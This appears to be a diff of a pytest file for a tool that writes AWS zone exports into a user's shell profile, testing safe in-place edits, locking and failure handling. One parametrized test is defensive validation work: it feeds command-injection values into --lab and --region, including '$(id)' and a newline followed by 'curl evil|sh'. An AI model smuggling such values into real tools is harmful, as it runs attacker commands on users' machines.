@@ -260,20 +260,167 @@ def test_profile_that_is_not_text_is_refused_unchanged(
     )
 
 
-def test_failed_write_leaves_no_temporary_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_write_that_fails_half_way_leaves_the_profile_unchanged(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # GIVEN a disk that fills up after the first bytes of the block are written
     from ekslab.views import azs as module
 
     profile = tmp_path / ".bash_profile"
     profile.write_text("keep\n")
+    real_write_all = module._write_all
+    calls = []
 
-    def broken_replace(*_: object) -> None:
-        raise OSError(28, "No space left on device")
+    def disk_full(descriptor: int, data: bytes) -> None:
+        calls.append(len(data))
+        if len(calls) == 1:
+            real_write_all(descriptor, data[:10])
+            raise OSError(28, "No space left on device")
+        real_write_all(descriptor, data)
 
-    monkeypatch.setattr(module.os, "replace", broken_replace)
+    monkeypatch.setattr(module, "_write_all", disk_full)
+    # WHEN the block is appended
     with pytest.raises(InputError) as error:
         module.write_profile(profile, AzExports("ekslab", REGION, ("ap-northeast-2a",), "x"))
+    # THEN the error says so and the profile is as it was, with nothing beside it
     assert (error.value.message, os.listdir(tmp_path), profile.read_text()) == (
         f"{profile}: cannot be written (No space left on device); not changed",
         [".bash_profile"],
         "keep\n",
     )
+
+
+# --- issue 21 item 3: injection through --lab/--region, and a safe in-place edit ------------------
+
+LAB_RULE = "must be a lab name (a lowercase letter, then up to 19 lowercase letters, digits or -)"
+REGION_RULE = "must be an AWS region name like ap-northeast-2"
+
+
+@pytest.mark.parametrize(
+    ("option", "value", "rule"),
+    [
+        ("--region", "ap-northeast-2\ntouch /tmp/pwned", REGION_RULE),
+        ("--region", "ap-northeast-2;id", REGION_RULE),
+        ("--lab", "ekslab\ncurl evil|sh", LAB_RULE),
+        ("--lab", "ekslab$(id)", LAB_RULE),
+    ],
+)
+def test_lab_or_region_that_would_inject_a_command_is_refused_before_writing(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], option: str, value: str, rule: str
+) -> None:
+    # GIVEN a profile and a --lab/--region carrying a newline or shell syntax
+    profile = tmp_path / ".bash_profile"
+    profile.write_text("keep\n")
+    # WHEN azs --append runs with it
+    code, out, err = run(["--offline", option, value, "--append", str(profile)], capsys)
+    # THEN it is refused in one line and the profile is untouched
+    given = " ".join(repr(value).split())
+    assert (code, out, err, profile.read_text()) == (
+        2,
+        "",
+        f"ekslab: error: {option}: {rule}, got {given}\n",
+        "keep\n",
+    )
+
+
+def test_a_hard_linked_profile_keeps_its_links_and_inode(tmp_path: Path) -> None:
+    from ekslab.exercises.azs import write_profile
+
+    # GIVEN a profile with a second hard link
+    profile = tmp_path / ".bash_profile"
+    profile.write_text("keep\n")
+    other = tmp_path / "profile.link"
+    os.link(profile, other)
+    inode = profile.stat().st_ino
+    # WHEN the block is written (appended, then replaced with other zones)
+    write_profile(profile, AzExports("ekslab", REGION, ("ap-northeast-2a",), "x"))
+    write_profile(profile, AzExports("ekslab", REGION, ("ap-northeast-2b", "ap-northeast-2c"), "x"))
+    # THEN both names still are one file, with the new block
+    assert (profile.stat().st_ino, profile.stat().st_nlink, other.read_text()) == (
+        inode,
+        2,
+        profile.read_text(),
+    )
+    assert "export AZ2=ap-northeast-2c\n" in other.read_text()
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="giving a file to another owner needs root")
+def test_run_as_root_keeps_the_profiles_owner(tmp_path: Path) -> None:
+    from ekslab.exercises.azs import write_profile
+
+    profile = tmp_path / ".bash_profile"
+    profile.write_text("keep\n")
+    os.chown(profile, 1234, 5678)
+    write_profile(profile, AzExports("ekslab", REGION, ("ap-northeast-2a",), "x"))
+    assert (profile.stat().st_uid, profile.stat().st_gid) == (1234, 5678)
+
+
+def test_a_read_only_profile_is_refused_even_for_root(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    profile = tmp_path / ".bash_profile"
+    profile.write_text("keep\n")
+    profile.chmod(0o444)
+    code, _, err = run(["--offline", "--append", str(profile)], capsys)
+    expected = (
+        f"ekslab: error: {profile}: is read-only (mode 0444); not changed\n"
+        if os.geteuid() == 0
+        else f"ekslab: error: {profile}: cannot be opened for writing (Permission denied); not changed\n"
+    )
+    assert (code, err, profile.read_text()) == (2, expected, "keep\n")
+
+
+def test_a_new_profile_gets_the_umasks_mode(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    profile = tmp_path / ".bash_profile"
+    previous = os.umask(0o077)
+    try:
+        run(["--offline", "--append", str(profile)], capsys)
+    finally:
+        os.umask(previous)
+    assert stat.S_IMODE(profile.stat().st_mode) == 0o600
+
+
+def test_lines_another_process_appends_meanwhile_are_kept(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # GIVEN another process that appends a line right after ekslab has read the profile
+    from ekslab.exercises import azs as module
+
+    profile = tmp_path / ".bash_profile"
+    profile.write_text("keep\n")
+    real_read_all = module._read_all
+
+    def read_then_someone_appends(handle: object) -> bytes:
+        data = real_read_all(handle)  # type: ignore[arg-type]
+        with open(profile, "a") as other:
+            other.write("export FROM_ELSEWHERE=1\n")
+        return data
+
+    monkeypatch.setattr(module, "_read_all", read_then_someone_appends)
+    # WHEN the block is appended
+    module.write_profile(profile, AzExports("ekslab", REGION, ("ap-northeast-2a",), "x"))
+    # THEN the other line is still there, and so is the block
+    text = profile.read_text()
+    assert (text.startswith("keep\nexport FROM_ELSEWHERE=1\n"), text.count(BLOCK_BEGIN)) == (True, 1)
+
+
+def test_a_second_writer_waits_for_the_lock(tmp_path: Path) -> None:
+    import fcntl
+    import threading
+
+    from ekslab.exercises.azs import write_profile
+
+    # GIVEN a profile another ekslab holds the lock of
+    profile = tmp_path / ".bash_profile"
+    profile.write_text("keep\n")
+    with open(profile, "rb") as holder:
+        fcntl.flock(holder.fileno(), fcntl.LOCK_EX)
+        # WHEN a second writer starts
+        exports = AzExports("ekslab", REGION, ("ap-northeast-2a",), "x")
+        writer = threading.Thread(target=write_profile, args=(profile, exports))
+        writer.start()
+        writer.join(0.5)
+        while_locked = (writer.is_alive(), profile.read_text())
+    writer.join(10)
+    # THEN it changed nothing while the lock was held, and wrote once it was free
+    assert (while_locked, BLOCK_BEGIN in profile.read_text()) == ((True, "keep\n"), True)
